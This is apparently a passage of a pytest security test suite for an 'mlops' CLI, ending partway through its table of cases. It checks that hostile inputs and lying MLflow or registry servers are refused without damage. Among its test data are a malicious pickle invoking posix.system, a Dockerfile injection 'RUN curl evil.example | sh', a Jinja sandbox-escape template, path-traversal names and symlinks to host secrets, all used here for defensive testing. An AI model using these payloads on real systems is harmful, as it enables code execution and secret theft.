"""Nothing lost, whatever the input: no stage destroys what it did not create.

A table-driven matrix through the real ``mlops`` console script, run as a careless or hostile user
would run it, in a workspace that looks like an actions/checkout: a clone of a bare origin with
untracked victims (a foreign folder, a file, ``.github``), a host folder outside it that links may
point at, and inputs (a model folder, fetched artifacts, a build context) prepared per case.

Each refused case asserts: the exit code (2 for an input, 1 for a service), exactly one ``::error``
line naming the input (or the service) with a fix, no ``unexpected``, no forged workflow command,
and, byte for byte, the same file tree (every file under the case's folder: the workspace, the
victims, the host folder, the inputs) and the same git refs in the origin (and, for gate, the same
model registry) before and after. The positive cases rerun render-dockerfile and fetch-artifacts
into their own earlier output: it is replaced atomically, and a failed rerun leaves it intact.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Callable

import pytest

from conftest import git
from mlops_actions.core import local_services, manifest
from test_cli_errors import MLOPS

PAYLOAD = "\n::warning::forged"  # a newline in an input must never start a workflow command
FORGED = ("::warning::forged", "::error::forged", "::notice::forged")
SECRETS = ("GITHUB_TOKEN", "MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD", "REGISTRY_PASSWORD", "MLFLOW_TRACKING_URI",
           "MLFLOW_TRACKING_TOKEN", "DAGSHUB_USER_TOKEN", "GITHUB_BASE_REF", "GITHUB_WORKSPACE", "GITHUB_REF", "GITHUB_SHA")


# --- the world each case runs in ---------------------------------------------------------------


@dataclass
class World:
    root: Path  # everything the case may touch lives below: snapshot scope
    ws: Path  # the checkout and the working directory ($GITHUB_WORKSPACE)
    origin: Path
    host: Path  # outside the checkout: what a link may point at
    inputs: Path
    values: dict[str, str] = field(default_factory=dict)
    registry: object = None  # the real registry (conftest.Registry)


def cli(world: World, args: list[str], env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    full = dict(os.environ, MLOPS_RETRY_BASE_DELAY="0.05", MLOPS_RETRY_ATTEMPTS="2")
    for var in SECRETS:
        full.pop(var, None)
    gh = world.root.parent / f"{world.root.name}-gh"
    gh.mkdir(exist_ok=True)
    full.update(GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(gh / "output"), GITHUB_STEP_SUMMARY=str(gh / "summary"),
                GITHUB_WORKSPACE=str(world.ws), **(env or {}))
    return subprocess.run(MLOPS + list(args), cwd=world.ws, env=full, capture_output=True, text=True, timeout=300)


def snapshot(root: Path) -> dict[str, str]:
    """Every entry below ``root`` without following links: files by sha256, links by target, FIFOs
    and folders by kind. Git's own databases are left out (fetches may add objects), except the
    clone's config and HEAD; the origin's refs are compared separately."""
    seen: dict[str, str] = {}
    for folder, dirs, files in os.walk(root):
        rel_folder = Path(folder).relative_to(root)
        parts = rel_folder.parts
        if parts[:1] == ("origin.git",) or (len(parts) >= 2 and parts[1] == ".git") or parts[:1] == (".git",):
            if rel_folder == Path("ws/.git"):
                for name in ("config", "HEAD"):
                    seen[f"ws/.git/{name}"] = hashlib.sha256((Path(folder) / name).read_bytes()).hexdigest()
            dirs[:] = []
            continue
        for name in dirs + files:
            path = Path(folder) / name
            rel = (rel_folder / name).as_posix()
            mode = path.lstat().st_mode
            if stat.S_ISLNK(mode):
                seen[rel] = "link:" + os.readlink(path)
            elif stat.S_ISDIR(mode):
                seen[rel] = "dir"
            elif stat.S_ISREG(mode):
                seen[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                seen[rel] = "special"
    return seen


def refs(origin: Path) -> str:
    return git("--git-dir", str(origin), "for-each-ref", "--format=%(refname) %(objectname)", cwd=origin.parent) + \
        "\nHEAD " + git("--git-dir", str(origin), "symbolic-ref", "HEAD", cwd=origin.parent)


def push_tree(world: World, branch: str, build: Callable[[Path], None], base: str = "main") -> None:
    """Commit ``build(checkout)`` on ``branch`` (from ``base``) and push it to the origin."""
    seed = world.root / "seed"
    git("clone", "--quiet", str(world.origin), str(seed), cwd=world.root)
    git("checkout", "--quiet", "-B", branch, f"origin/{base}", cwd=seed)
    build(seed)
    git("add", "--all", cwd=seed)
    git("-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "--quiet", "-m", "setup", cwd=seed)
    git("push", "--quiet", "origin", f"HEAD:refs/heads/{branch}", cwd=seed)
    shutil.rmtree(seed)


@pytest.fixture(scope="module")
def runs(mlflow_server, trained):
    """Runs that must never be fetched or gated: deleted, still running, failed, a NaN metric."""
    from mlflow import MlflowClient

    client = MlflowClient(tracking_uri=mlflow_server.url)
    exp = client.get_experiment_by_name("tests-sentiment").experiment_id
    running = client.create_run(exp, run_name="still-running").info.run_id
    failed = client.create_run(exp, run_name="failed").info.run_id
    client.log_metric(failed, "test_accuracy", 0.99)
    client.set_terminated(failed, status="FAILED")
    deleted = client.create_run(exp, run_name="deleted").info.run_id
    client.log_metric(deleted, "test_accuracy", 0.99)
    client.set_terminated(deleted, status="FINISHED")
    client.delete_run(deleted)
    nan = client.create_run(exp, run_name="nan-metric").info.run_id
    client.log_metric(nan, "test_accuracy", float("nan"))
    client.set_terminated(nan, status="FINISHED")
    return {"running": running, "failed": failed, "deleted": deleted, "nan_run": nan}


class _Elsewhere(BaseHTTPRequestHandler):
    """Another host a hostile server sends clients to: it records what reaches it (credentials must
    not) and answers 404."""

    seen: list[str] = []

    def _answer(self) -> None:
        self.seen.append(f"{self.command} {self.path} " + " ".join(f"{k}={v}" for k, v in self.headers.items()))
        _reply(self, 404, b"not here", {"Content-Type": "text/plain"})

    do_GET = do_POST = do_PUT = do_HEAD = do_PATCH = do_DELETE = _answer

    def log_message(self, *args) -> None:  # quiet
        pass


class _Hostile(BaseHTTPRequestHandler):
    """A real MLflow server behind a proxy that lies, by ``mode``: adds a name climbing out of the
    run (``evil``: ``..``, absolute, a line break, a backslash) to every artifact listing; lists
    sizes that are not the served bytes (``size-lie``); serves a huge file for a small listed one
    (``huge``); redirects downloads or the run's REST call to another host (``redirect-*``);
    answers the run's REST call with HTML (``garbage``)."""

    backend = ""
    mode = "name"
    evil = "../../evil.txt"
    elsewhere = ""

    def _send(self, status: int, data: bytes, ctype: str, headers: dict | None = None) -> None:
        _reply(self, status, data, {"Content-Type": ctype, **(headers or {})})

    def _forward(self) -> None:
        import urllib.error
        import urllib.request

        download = self.command == "GET" and self.path.startswith("/api/2.0/mlflow-artifacts/artifacts/") and ".png" in self.path
        get_run = "/mlflow/runs/get" in self.path
        if (self.mode == "redirect-download" and download) or (self.mode == "redirect-api" and get_run):
            return self._send(302, b"", "text/plain", {"Location": self.elsewhere + self.path})
        if self.mode == "garbage" and get_run:
            return self._send(200, b"<html><body>maintenance</body></html>", "application/json")
        if self.mode == "huge" and download:  # listed as a small image, served as 64 MB
            size = 64 << 20
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(size))
            self.end_headers()
            chunk = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                self.wfile.write(chunk)
            return None
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else None
        req = urllib.request.Request(self.backend + self.path, data=body, method=self.command,
                                     headers={k: v for k, v in self.headers.items() if k.lower() in ("content-type", "authorization")})
        try:
            with urllib.request.urlopen(req, timeout=30) as resp:
                status, data, ctype = resp.status, resp.read(), resp.headers.get("Content-Type", "")
        except urllib.error.HTTPError as exc:
            status, data, ctype = exc.code, exc.read(), exc.headers.get("Content-Type", "")
        if "json" in ctype and b'"files"' in data:
            doc = json.loads(data)
            if self.mode == "name":
                doc["files"] = list(doc.get("files") or []) + [{"path": self.evil, "is_dir": False, "file_size": 5}]
            elif self.mode == "size-lie":
                for entry in doc.get("files") or []:
                    if not entry.get("is_dir") and entry.get("file_size"):
                        entry["file_size"] = int(entry["file_size"]) + 1000
            data = json.dumps(doc).encode()
        return self._send(status, data, ctype or "application/octet-stream")

    do_GET = do_POST = do_PATCH = do_DELETE = _forward

    def log_message(self, *args) -> None:  # quiet
        pass


class _FakeRegistry(BaseHTTPRequestHandler):
    """A hostile OCI registry (basic auth), by ``mode``: serves a manifest that does not hash to the
    digest asked for (``wrong-digest``); redirects manifests to another host (``redirect``); pages
    its tag list to another host (``link-elsewhere``); starts blob uploads without a Location
    (``no-location``)."""

    mode = "wrong-digest"
    elsewhere = ""

    def _send(self, status: int, data: bytes = b"", headers: dict | None = None) -> None:
        _reply(self, status, data, headers)

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        if "Authorization" not in self.headers:
            return self._send(401, b"{}", {"WWW-Authenticate": 'Basic realm="hostile"', "Content-Type": "application/json"})
        path = self.path.split("?")[0]
        if path == "/v2/":
            return self._send(200, b"{}", {"Content-Type": "application/json"})
        if self.mode == "wrong-digest" and "/manifests/" in path:
            body = b'{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": {}, "layers": []}'
            return self._send(200, body, {"Content-Type": "application/vnd.oci.image.manifest.v1+json",
                                          "Docker-Content-Digest": path.rsplit("/", 1)[1]})
        if self.mode == "redirect" and "/manifests/" in path:
            return self._send(307, b"", {"Location": self.elsewhere + self.path})
        if self.mode == "link-elsewhere" and path.endswith("/tags/list"):
            repo = path[len("/v2/"):-len("/tags/list")]
            return self._send(200, json.dumps({"name": repo, "tags": ["v1.0.0"]}).encode(),
                              {"Content-Type": "application/json", "Link": f'<{self.elsewhere}/v2/{repo}/tags/list?last=v1.0.0>; rel="next"'})
        if self.mode == "no-location" and path.endswith("/blobs/uploads/") and self.command == "POST":
            return self._send(202)
        return self._send(404, b'{"errors": [{"code": "NAME_UNKNOWN"}]}', {"Content-Type": "application/json"})

    do_GET = do_POST = do_PUT = do_HEAD = do_PATCH = _answer

    def log_message(self, *args) -> None:  # quiet
        pass


class _RegistryProxy(BaseHTTPRequestHandler):
    """The real registry behind a proxy that answers 500 to every manifest PUT: blobs arrive, the
    manifest (and so any tag) never does."""

    backend = ""

    def _forward(self) -> None:
        import urllib.error
        import urllib.request

        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else None
        if self.command == "PUT" and "/manifests/" in self.path:
            _reply(self, 500, b'{"errors": [{"code": "UNKNOWN", "message": "storage failed"}]}')
            return
        headers = {k: v for k, v in self.headers.items() if k.lower() not in ("content-length", "connection")}
        req = urllib.request.Request(self.backend + self.path, data=body if body is not None else (b"" if self.command in ("PUT", "POST", "PATCH") else None),
                                     method=self.command, headers=headers)
        try:
            resp = urllib.request.urlopen(req, timeout=60)
        except urllib.error.HTTPError as exc:
            resp = exc
        kept = {k: v for k, v in resp.headers.items() if k.lower() not in ("content-length", "transfer-encoding", "connection")}
        _reply(self, resp.status if hasattr(resp, "status") else resp.code, resp.read(), kept)

    do_GET = do_POST = do_PUT = do_HEAD = do_PATCH = do_DELETE = _forward

    def log_message(self, *args) -> None:  # quiet
        pass


def _reply(handler: BaseHTTPRequestHandler, status: int, data: bytes = b"", headers: dict | None = None) -> None:
    """One answer of the test's HTTP servers: ``headers``, the body's length, the body (none to HEAD)."""
    handler.send_response(status)
    for key, value in (headers or {}).items():
        handler.send_header(key, value)
    handler.send_header("Content-Length", str(len(data)))
    handler.end_headers()
    if handler.command != "HEAD":
        handler.wfile.write(data)


def _serve(handler: type, host: str = "127.0.0.1") -> ThreadingHTTPServer:
    import threading

    server = ThreadingHTTPServer((host, 0), handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def elsewhere():
    server = _serve(_Elsewhere, "127.0.0.2")  # another host: loopback, but not the server's address
    yield f"http://127.0.0.2:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture(scope="module")
def hostile(mlflow_server, elsewhere):
    urls = {}
    servers = []
    backend = mlflow_server.url.rstrip("/")
    for name, mode, evil in (("hostile", "name", "../../evil.txt"), ("hostile_abs", "name", "/tmp/mlops-evil.txt"),
                             ("hostile_nl", "name", "model/a" + PAYLOAD), ("hostile_bs", "name", "..\\..\\evil.txt"),
                             ("hostile_size", "size-lie", ""), ("hostile_huge", "huge", ""), ("hostile_redirect", "redirect-download", ""),
                             ("hostile_redirect_api", "redirect-api", ""), ("hostile_garbage", "garbage", "")):
        handler = type(f"Hostile_{name}", (_Hostile,), {"backend": backend, "mode": mode, "evil": evil, "elsewhere": elsewhere})
        server = _serve(handler)
        servers.append(server)
        urls[name] = f"http://127.0.0.1:{server.server_address[1]}"
    for mode in ("wrong-digest", "redirect", "link-elsewhere", "no-location"):
        server = _serve(type(f"Registry_{mode}", (_FakeRegistry,), {"mode": mode, "elsewhere": elsewhere}))
        servers.append(server)
        urls["reg_" + mode.replace("-", "_")] = f"127.0.0.1:{server.server_address[1]}"
    yield urls
    for server in servers:
        server.shutdown()


PROMOTE_SRC, PROMOTE_DST = "nothing-lost/src", "nothing-lost/prod"


def _push_synthetic_image(registry, repo: str) -> str:
    """A two-blob OCI image pushed through the registry API (no engine needed); returns its digest."""
    import requests

    auth = (registry.username, registry.password)

    def blob(data: bytes) -> dict:
        digest = "sha256:" + hashlib.sha256(data).hexdigest()
        start = requests.post(f"{registry.url}/v2/{repo}/blobs/uploads/", auth=auth, timeout=30)
        location = start.headers["Location"]
        url = location if location.startswith("http") else registry.url + location
        requests.put(f"{url}{'&' if '?' in url else '?'}digest={digest}", data=data, auth=auth, timeout=30,
                     headers={"Content-Type": "application/octet-stream"}).raise_for_status()
        return {"digest": digest, "size": len(data)}

    config = blob(b'{"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": []}}')
    layer = blob(os.urandom(2048))
    manifest_doc = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                    "config": {"mediaType": "application/vnd.oci.image.config.v1+json", **config},
                    "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", **layer}]}
    body = json.dumps(manifest_doc).encode()
    requests.put(f"{registry.url}/v2/{repo}/manifests/v1", data=body, auth=auth, timeout=30,
                 headers={"Content-Type": "application/vnd.oci.image.manifest.v1+json"}).raise_for_status()
    return "sha256:" + hashlib.sha256(body).hexdigest()


@pytest.fixture(scope="module")
def real_registry(registry):
    digest = _push_synthetic_image(registry, PROMOTE_SRC)
    proxy = _serve(type("RegistryProxy", (_RegistryProxy,), {"backend": registry.url}))
    yield {"registry": registry.host, "synthetic": digest, "reg_put_500": f"127.0.0.1:{proxy.server_address[1]}",
           "reg_user": registry.username, "reg_password": registry.password, "_registry": registry}
    proxy.shutdown()


@pytest.fixture
def world(tmp_path, fetched, trained, mlflow_server, runs, hostile, real_registry) -> World:
    root = tmp_path / "case"
    root.mkdir()
    origin, clone = local_services.git_origin(root)
    ws = root / "ws"
    clone.rename(ws)
    host = root / "host"
    (host / "dir").mkdir(parents=True)
    (host / "secret.txt").write_text("the runner's secret\n")
    (host / "dir" / "id_rsa").write_text("PRIVATE KEY\n")
    (ws / "victim" / "sub").mkdir(parents=True)
    (ws / "victim" / "keep.txt").write_text("a user's file\n")
    (ws / "victim" / "sub" / "deep.txt").write_text("another\n")
    (ws / "note.txt").write_text("notes\n")
    (ws / ".github" / "workflows").mkdir(parents=True)
    (ws / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    inputs = root / "inputs"
    inputs.mkdir()
    shutil.copytree(fetched.model_path, inputs / "model")
    shutil.copytree(fetched.path, inputs / "art")  # with fetch-artifacts' marker
    ctx = inputs / "ctx"
    ctx.mkdir()
    (ctx / "Dockerfile").write_text("FROM scratch\n")
    w = World(root=root, ws=ws, origin=origin, host=host, inputs=inputs, registry=real_registry["_registry"])
    w.values = {
        "ws": str(ws), "host": str(host), "model": str(inputs / "model"), "art": str(inputs / "art"), "ctx": str(ctx),
        "inputs": str(inputs), "mlflow": mlflow_server.url, "run_id": trained.run_id, **runs, **hostile,
        **{k: v for k, v in real_registry.items() if not k.startswith("_")},
        "project": str(Path(__file__).resolve().parents[2] / "model_project" / "sentiment"),
    }
    # data for validate-data, drift and summary
    (inputs / "data.csv").write_text("a,b\n1,x\n2,y\n3,z\n")
    (inputs / "spec.yaml").write_text("format: csv\nmin_rows: 1\ncolumns:\n  a: {type: integer}\n  b: {}\n")
    rows = "".join(f"{i * 0.37 % 1:.3f},{'pq'[i % 2]}\n" for i in range(40))
    (inputs / "ref.csv").write_text("x,c\n" + rows)
    (inputs / "cur.csv").write_text("x,c\n" + rows)
    (inputs / "needs.json").write_text(json.dumps({"train": {"result": "success", "outputs": {"run-id": "abc"}},
                                                   "gate": {"result": "skipped", "outputs": {}}}))
    w.values["needs"] = (inputs / "needs.json").read_text()
    return w


# --- case set-ups (each changes the inputs, never the snapshot's victims) -------------------------


def link(rel: str, target: str, under: str = "model") -> Callable[[World], None]:
    def setup(w: World) -> None:
        (w.inputs / under / rel).symlink_to(target.format(**w.values))
    return setup


def fifo(under: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        os.mkfifo(w.inputs / under / "pipe")
    return setup


def write(rel: str, data: str | bytes) -> Callable[[World], None]:
    def setup(w: World) -> None:
        path = w.inputs / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data.format(**w.values))
    return setup


def mlmodel(text: str) -> Callable[[World], None]:
    return write("model/MLmodel", text)


def link_with_matching_manifest(w: World) -> None:
    """The model file replaced by a link to a host file, the manifest rewritten to match its bytes:
    by content the folder verifies; only the link gives it away."""
    art = w.inputs / "art"
    (art / "model" / "model.pkl").unlink()
    (art / "model" / "model.pkl").symlink_to(w.host / "secret.txt")
    lines = []
    for line in (art / manifest.NAME).read_text().splitlines():
        digest, _, rel = line.partition("  ")
        if rel == "model/model.pkl":
            digest = hashlib.sha256((w.host / "secret.txt").read_bytes()).hexdigest()
        lines.append(f"{digest}  {rel}\n")
    (art / manifest.NAME).write_text("".join(lines))


def manifest_link(w: World) -> None:
    art = w.inputs / "art"
    shutil.copy(art / manifest.NAME, w.host / "dir" / "m")
    (art / manifest.NAME).unlink()
    (art / manifest.NAME).symlink_to(w.host / "dir" / "m")


def dir_link(under: str, rel: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        (w.inputs / under / rel).symlink_to(w.host / "dir", target_is_directory=True)
    return setup


def loop(under: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        (w.inputs / under / "a").symlink_to("b")
        (w.inputs / under / "b").symlink_to("a")
    return setup


def up_loop(under: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        (w.inputs / under / "sub").mkdir(exist_ok=True)
        (w.inputs / under / "sub" / "up").symlink_to("..", target_is_directory=True)
    return setup


def marker_at_root(stage: str) -> Callable[[World], None]:
    """A hostile repository commits the stage's marker at its root."""
    def setup(w: World) -> None:
        (w.ws / ".mlops-output").write_text(stage + "\n")
    return setup


def ws_output_of(stage: str, name: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        (w.ws / name).mkdir()
        (w.ws / name / ".mlops-output").write_text(stage + "\n")
        (w.ws / name / "theirs.txt").write_text("written by another stage\n")
    return setup


def self_link(w: World) -> None:
    (w.inputs / "self").symlink_to("self")


def out_link(w: World) -> None:
    (w.ws / "out").symlink_to(w.ws / "victim", target_is_directory=True)


def bot_branch_link(path: str) -> Callable[[World], None]:
    """The bot branch on the origin carries ``path`` as a link to the host folder."""
    def setup(w: World) -> None:
        def build(tree: Path) -> None:
            target = tree / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.symlink_to(w.host / "dir", target_is_directory=True)
        push_tree(w, "mlops/model-update", build)
    return setup


def base_holds(path: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        def build(tree: Path) -> None:
            (tree / path).mkdir(parents=True, exist_ok=True)
            (tree / path / "guide.md").write_text("hand-written\n")
        push_tree(w, "main", build)
    return setup


def branch_on_origin(name: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        push_tree(w, name, lambda tree: (tree / "x.txt").write_text(name))
    return setup


def newline_source(w: World) -> None:
    shutil.copytree(w.inputs / "art", w.inputs / f"art{PAYLOAD}")
    w.values["art_nl"] = str(w.inputs / f"art{PAYLOAD}")


def combine(*steps: Callable[[World], None]) -> Callable[[World], None]:
    def setup(w: World) -> None:
        for step in steps:
            step(w)
    return setup


def ws_file(rel: str, text: str = "a user's file\n") -> Callable[[World], None]:
    def setup(w: World) -> None:
        (w.ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (w.ws / rel).write_text(text)
    return setup


def ws_link(rel: str, target: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        (w.ws / rel).symlink_to(target.format(**w.values))
    return setup


def prior(args: list[str], stale: str = "") -> Callable[[World], None]:
    """The stage ran once before (``args``): what it wrote is its own, and a rerun may replace it;
    ``stale`` names a file added to that output since, which the rerun's fresh output drops."""
    def setup(w: World) -> None:
        proc = cli(w, [a.format(**w.values) for a in args])
        assert proc.returncode == 0, proc.stdout + proc.stderr
        (w.root.parent / f"{w.root.name}-gh" / "output").unlink(missing_ok=True)
        if stale:
            (w.ws / stale).write_text("from an older run\n")
    return setup


_DVC_TEMPLATE: list[Path] = []


def dvc_init(w: World) -> None:
    """What ``dvc init`` leaves in the checkout (run once, then copied: the cases stay fast)."""
    if not _DVC_TEMPLATE:
        import tempfile

        template = Path(tempfile.mkdtemp(prefix="mlops-dvc-init-"))
        git("init", "--quiet", str(template), cwd=template)
        subprocess.run([sys.executable, "-m", "dvc", "init", "--quiet"], cwd=template, check=True, capture_output=True)
        _DVC_TEMPLATE.append(template)
    shutil.copytree(_DVC_TEMPLATE[0] / ".dvc", w.ws / ".dvc")
    shutil.copy(_DVC_TEMPLATE[0] / ".dvcignore", w.ws / ".dvcignore")


# --- the matrix ---------------------------------------------------------------------------------


@dataclass
class Case:
    id: str
    args: list[str]
    names: str  # the input named (code 2) or the service named (code 1)
    code: int = 2
    setup: Callable[[World], None] | None = None
    env: dict[str, str] = field(default_factory=dict)
    outcome: str = "refused"  # refused | unchanged (exit 0, nothing changed) | created | replaced (its own earlier output)
    creates: tuple[str, ...] = ()  # for created/replaced: the only paths (below the case folder) that may be new or change


R = ["render-dockerfile", "--runtime", "native", "--model-dir", "{model}"]
F = ["fetch-artifacts", "--tracking-uri", "{mlflow}"]
P = ["open-pr", "--source-dir", "{art}", "--repo-path", "models/sentiment", "--open-pull-request", "false"]
G = ["gate", "--tracking-uri", "{mlflow}", "--model-name", "nothing-lost", "--metric", "test_accuracy"]
I = ["push-image", "--context", "{ctx}", "--image", "127.0.0.1:1/acme/model", "--version", "1.0.0"]
H = ["health-check", "--image", "127.0.0.1:1/acme/model:v1"]
V = ["verify-manifest"]
S = ["scan", "--path"]
W = ["sweep", "--operation"]
EVIL_PICKLE = b"\x80\x02cposix\nsystem\nq\x00X\x19\x00\x00\x00touch /tmp/mlops-evil.txtq\x01\x85q\x02Rq\x03."
GOOD_MLMODEL = "flavors:\n  sklearn: {{}}\n  python_function: {{python_version: 3.11.7}}\n"

CASES = [
    # render-dockerfile: the output folder is new, empty or its own earlier output
    Case("render-out-dot", R + ["--output-dir", "."], "output-dir"),
    Case("render-out-workspace", R + ["--output-dir", "{ws}"], "output-dir"),
    Case("render-out-parent", R + ["--output-dir", ".."], "output-dir"),
    Case("render-out-filesystem-root", R + ["--output-dir", "/"], "output-dir"),
    Case("render-out-foreign-folder", R + ["--output-dir", "victim"], "output-dir"),
    Case("render-out-is-a-file", R + ["--output-dir", "note.txt"], "output-dir"),
    Case("render-out-under-a-file", R + ["--output-dir", "note.txt/ctx"], "output-dir"),
    Case("render-out-in-dot-git", R + ["--output-dir", ".git/ctx"], "output-dir"),
    Case("render-out-dot-github", R + ["--output-dir", ".github"], "output-dir"),
    Case("render-out-in-dot-github", R + ["--output-dir", ".github/workflows"], "output-dir"),
    Case("render-out-is-model-dir", R + ["--output-dir", "{model}"], "output-dir"),
    Case("render-out-inside-model-dir", R + ["--output-dir", "{model}/ctx"], "output-dir"),
    Case("render-out-holds-fetch-output", R + ["--output-dir", "{art}"], "output-dir"),
    Case("render-out-other-stage-marker", R + ["--output-dir", "fetched"], "output-dir", setup=ws_output_of("fetch-artifacts", "fetched")),
    Case("render-out-root-with-forged-marker", R + ["--output-dir", "."], "output-dir", setup=marker_at_root("render-dockerfile")),
    Case("render-out-is-a-link", R + ["--output-dir", "out"], "output-dir", setup=out_link),
    Case("render-out-name-too-long", R + ["--output-dir", "x" * 300], "output-dir"),
    # render-dockerfile: links in the model folder never reach the build context
    Case("render-model-link-to-host-file", R + ["--output-dir", "out"], "model-dir", setup=link("extra.txt", "{host}/secret.txt")),
    Case("render-model-link-to-host-dir", R + ["--output-dir", "out"], "model-dir", setup=dir_link("model", "ssh")),
    Case("render-model-dangling-link", R + ["--output-dir", "out"], "model-dir", setup=link("gone.txt", "/nonexistent/x")),
    Case("render-model-link-loop", R + ["--output-dir", "out"], "model-dir", setup=loop("model")),
    Case("render-model-dir-loop", R + ["--output-dir", "out"], "model-dir", setup=up_loop("model")),
    Case("render-model-fifo", R + ["--output-dir", "out"], "model-dir", setup=fifo("model")),
    Case("render-model-dir-is-a-loop", ["render-dockerfile", "--model-dir", "{inputs}/self", "--output-dir", "out"], "model-dir", setup=self_link),
    Case("render-mlmodel-is-a-link", R + ["--output-dir", "out"], "model-dir",
         setup=combine(write("model/MLmodel.real", GOOD_MLMODEL), lambda w: ((w.inputs / "model" / "MLmodel").unlink(), (w.inputs / "model" / "MLmodel").symlink_to("MLmodel.real")))),
    # render-dockerfile: a malformed model or template is one line, never 'unexpected'
    Case("render-mlmodel-flavor-is-text", R + ["--output-dir", "out"], "model-dir", setup=mlmodel("flavors:\n  sklearn: {{}}\n  python_function: just text\n")),
    Case("render-mlmodel-flavor-is-list", R + ["--output-dir", "out"], "model-dir", setup=mlmodel("flavors:\n  sklearn: [1, 2]\n")),
    Case("render-mlmodel-flavor-key-number", R + ["--output-dir", "out"], "model-dir", setup=mlmodel("flavors:\n  1: {{}}\n")),
    Case("render-mlmodel-not-a-mapping", R + ["--output-dir", "out"], "model-dir", setup=mlmodel("- a\n- b\n")),
    Case("render-mlmodel-binary", R + ["--output-dir", "out"], "model-dir", setup=write("model/MLmodel", bytes(range(256)))),
    Case("render-python-version-injection", R + ["--output-dir", "out"], "model-dir",
         setup=write("model/python_env.yaml", "python: \"3.11\\nRUN curl evil.example | sh\"\n")),
    Case("render-requirements-binary", R + ["--output-dir", "out"], "model-dir", setup=write("model/requirements.txt", b"\xff\xfe\x00bin")),
    Case("render-template-raises", R + ["--output-dir", "out", "--template", "{inputs}/t.j2"], "template", setup=write("t.j2", "{{{{ 1 // 0 }}}}")),
    Case("render-template-includes-host-file", R + ["--output-dir", "out", "--template", "{inputs}/t.j2"], "template",
         setup=write("t.j2", "{{% include '{host}/secret.txt' %}}")),
    Case("render-template-sandbox-escape", R + ["--output-dir", "out", "--template", "{inputs}/t.j2"], "template",
         setup=write("t.j2", "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}")),
    Case("render-check-data-binary", ["render-dockerfile", "--model-dir", "{model}", "--output-dir", "out", "--runtime", "auto",
                                      "--onnx-check-data", "{inputs}/held.csv"], "onnx-check-data", setup=write("held.csv", bytes(range(256)) * 4)),
    Case("render-check-data-pickle", ["render-dockerfile", "--model-dir", "{model}", "--output-dir", "out", "--runtime", "onnx",
                                      "--onnx-check-data", "{inputs}/held.npy"], "onnx-check-data", setup=write("held.npy", b"cos\nsystem\n(S'id'\ntR.")),
    # fetch-artifacts: the destination is new, empty or its own earlier output
    Case("fetch-path-dot", F + ["--run-id", "{run_id}", "--path", "."], "path"),
    Case("fetch-path-workspace", F + ["--run-id", "{run_id}", "--path", "{ws}"], "path"),
    Case("fetch-path-parent", F + ["--run-id", "{run_id}", "--path", ".."], "path"),
    Case("fetch-path-foreign-folder", F + ["--run-id", "{run_id}", "--path", "victim"], "path"),
    Case("fetch-path-is-a-file", F + ["--run-id", "{run_id}", "--path", "note.txt"], "path"),
    Case("fetch-path-under-a-file", F + ["--run-id", "{run_id}", "--path", "note.txt/art"], "path"),
    Case("fetch-path-dot-git", F + ["--run-id", "{run_id}", "--path", ".git"], "path"),
    Case("fetch-path-in-dot-github", F + ["--run-id", "{run_id}", "--path", ".github/artifacts"], "path"),
    Case("fetch-path-is-a-link", F + ["--run-id", "{run_id}", "--path", "out"], "path", setup=out_link),
    Case("fetch-path-holds-render-output", F + ["--run-id", "{run_id}", "--path", "ctx"], "path", setup=ws_output_of("render-dockerfile", "ctx")),
    Case("fetch-path-root-with-forged-marker", F + ["--run-id", "{run_id}", "--path", "."], "path", setup=marker_at_root("fetch-artifacts")),
    Case("fetch-model-uri-host-folder", F + ["--run-id", "{run_id}", "--path", "out", "--model-uri", "{host}/dir"], "model-uri"),
    Case("fetch-model-uri-file-scheme", F + ["--run-id", "{run_id}", "--path", "out", "--model-uri", "file://{host}/dir"], "model-uri"),
    # fetch-artifacts: only finished, live runs
    Case("fetch-deleted-run", F + ["--run-id", "{deleted}", "--path", "out"], "run-id"),
    Case("fetch-running-run", F + ["--run-id", "{running}", "--path", "out"], "run-id"),
    Case("fetch-failed-run", F + ["--run-id", "{failed}", "--path", "out"], "run-id"),
    Case("fetch-run-id-forges-command", F + ["--run-id", "0123" + PAYLOAD, "--path", "out"], "run-id"),
    # fetch-artifacts: retry settings and a hostile server
    Case("fetch-retry-attempts-zero", F + ["--run-id", "{run_id}", "--path", "out"], "MLOPS_RETRY_ATTEMPTS", env={"MLOPS_RETRY_ATTEMPTS": "0"}),
